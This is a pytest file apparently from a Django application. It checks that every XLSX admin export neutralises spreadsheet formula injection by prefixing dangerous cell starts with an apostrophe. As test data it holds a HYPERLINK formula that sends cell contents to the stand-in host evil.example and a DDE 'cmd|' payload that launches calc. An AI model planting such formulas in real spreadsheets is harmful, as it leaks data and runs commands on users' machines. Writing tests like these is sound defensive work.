"""Formula injection (issue 17, item 6): every XLSX export neutralises a text cell that begins
with =, +, -, @, a tab or a carriage return (prefixed with '), so no exported cell is a formula,
including an enterprise named =HYPERLINK(...) recommended through the API."""

import io
import random

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from boards.enterprises.models import Enterprise
from boards.kernel.exports import FORMULA_STARTS, neutralise
from boards.kernel.scoping import board_scope
from boards.kernel.uscc import make_uscc
from tests.factories import EnterpriseFactory
from tests.support.alliance import member

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
XLSX_EXPORTS = ("enterprise", "qualification", "financialyear", "financingevent", "servicerecord",
                "tierchange", "retierrun", "retierproposal")


def _cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(content):
    cells = _cells(content)
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, formulas
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)], texts
    return texts


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutralise_prefixes_every_formula_start(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("正常名称") == "正常名称" and neutralise(-5) == -5 and neutralise(None) is None


def test_an_enterprise_recommended_as_a_hyperlink_formula_exports_as_text(client, board, staff_user):
    bank = member(board, "IMB", name="内蒙古银行")
    api = APIClient()
    api.force_authenticate(bank.user)
    response = api.post(f"/api/v1/{board.slug}/alliance/recommendations/", {
        "name": HYPERLINK, "credit_code": make_uscc(random.Random("formula"), "150105"),
        "prefecture": "@呼和浩特市", "industry": "-软件", "reason": "+推荐"}, format="json")
    assert response.status_code == 201, response.json()
    with board_scope(board):
        assert Enterprise.objects.filter(name=HYPERLINK).exists()
        EnterpriseFactory(board=board, name="\t=1+2", industry="\r=cmd|' /C calc'!A0")
    client.force_login(staff_user)
    exported = client.post("/admin/boards/enterprise/export/", {"format": "0"})
    assert exported.status_code == 200
    texts = _no_formula(exported.content)
    assert "'" + HYPERLINK in texts and "'\t=1+2" in texts


def test_every_admin_xlsx_export_has_no_formula(client, board, staff_user):
    with board_scope(board):
        EnterpriseFactory(board=board, name="=1+1", main_business="@SUM(A1:A2)")
    client.force_login(staff_user)
    for model in XLSX_EXPORTS:
        response = client.post(f"/admin/boards/{model}/export/", {"format": "0"})
        assert response.status_code == 200, model
        _no_formula(response.content)
